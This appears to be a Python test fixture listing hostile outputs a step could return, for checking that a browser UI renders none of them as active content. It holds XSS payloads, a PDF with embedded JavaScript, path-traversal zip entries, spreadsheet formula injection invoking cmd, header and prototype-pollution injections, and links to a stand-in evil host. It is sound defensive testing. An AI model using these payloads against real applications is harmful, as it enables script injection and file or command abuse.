"""What a step may return to make a browser do something: none of it may act."""

import io
import zipfile

import msgpack

MARK = "<x-hostile></x-hostile>"
ACTS = f"<script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)>{MARK}"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(4)"><script>alert(5)</script>{MARK}</svg>'
PAGE = f"<!doctype html><body onload=alert(6)>{ACTS}<iframe srcdoc='<script>alert(7)</script>'></iframe>"
FORMULAS = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", '=HYPERLINK("http://evil.example","x")', "\t=1"]
UNSEEN = "".join(map(chr, [*range(32), 0x7F, 0x85, 0x200B, 0x202E, 0x2066, 0x2028, 0xFEFF]))
PNG = b"\x89PNG\r\n\x1a\n"
PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(8))>>>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]"
    b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(javascript:alert(9))>>>>]>>endobj\n"
    b"trailer<</Root 1 0 R>>"
)


def _zip() -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        for name in ("../../etc/passwd", f"{ACTS}.txt", "a\x00b", "C:\\evil.exe", f"{UNSEEN}.js", "/x/../y"):
            archive.writestr(zipfile.ZipInfo(name or "x"), ACTS)
    return held.getvalue()


def _file(data: bytes, content_type: object) -> bytes:
    return msgpack.packb({"data": data, "contentType": content_type})


ZIP = _zip()
RESULTS: dict[str, bytes] = {
    "markup as text": msgpack.packb({"data": ACTS}),
    "markup as keys": msgpack.packb({"data": {ACTS: {ACTS: [ACTS]}}, "headers": {ACTS: ACTS}}),
    "a page": _file(PAGE.encode(), "text/html"),
    "a page in utf-7": _file(b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "text/html; charset=utf-7"),
    "a page called a picture": _file(PAGE.encode(), "image/png"),
    "a page that begins as a picture": _file(PNG + PAGE.encode(), "image/png"),
    "a picture that is a script": _file(b"GIF89a=1/*\x00*/;alert(1)//" + ACTS.encode(), "image/gif"),
    "a picture with scripts": _file(SVG.encode(), "image/svg+xml"),
    "a picture with scripts, called text": _file(SVG.encode(), "text/xml"),
    "a picture with scripts, of no type": msgpack.packb({"data": SVG.encode()}),
    "json that ends a script": _file(f'{{"a": "</script>{ACTS}", "{ACTS}": 1}}'.encode(), "application/json"),
    "json that is a page": _file(PAGE.encode(), "application/json"),
    "addresses": msgpack.packb(
        {
            "data": {
                f"javascript:alert({turn})": f"{scheme}{ACTS}"
                for turn, scheme in enumerate(
                    ("javascript:alert(1)//", "data:text/html,", "vbscript:x//", "//evil.example/", "blob:x/")
                )
            }
        }
    ),
    "unseen characters": msgpack.packb({"data": {UNSEEN: UNSEEN, "\u202eexe.txt": "\u2067x"}}),
    "template tags": msgpack.packb(
        {"data": "{{ 7|add:7 }}{% debug %}${alert(1)}{{constructor}}", "contentType": "text/plain"}
    ),
    "htmx": msgpack.packb(
        {"data": '<a hx-get="//evil.example" hx-trigger="load" data-hx-on:load="alert(1)">'}
    ),
    "a type that breaks out": _file(b"x", f'text/html"><{ACTS}\r\nX-Evil: 1'),
    "an ending that breaks out": msgpack.packb({"data": b"\x00x", "suggestedExtension": f'../"{ACTS}'}),
    "names that break out": msgpack.packb({"data": {f'"/..\\{ACTS}\r\n.html': b"\x00bytes"}}),
    "a pdf that acts": _file(PDF + PAGE.encode(), "application/pdf"),
    "an archive": _file(ZIP, "application/zip"),
    "a table of formulas": msgpack.packb({"data": [{f: f, ACTS: ACTS} for f in FORMULAS]}),
    "a prototype": msgpack.packb({"data": {"__proto__": {"polluted": 1}, "constructor": {"prototype": 1}}}),
    "a page in place of a result": PAGE.encode(),
    "words in place of a result": f"{ACTS} and words".encode(),
}
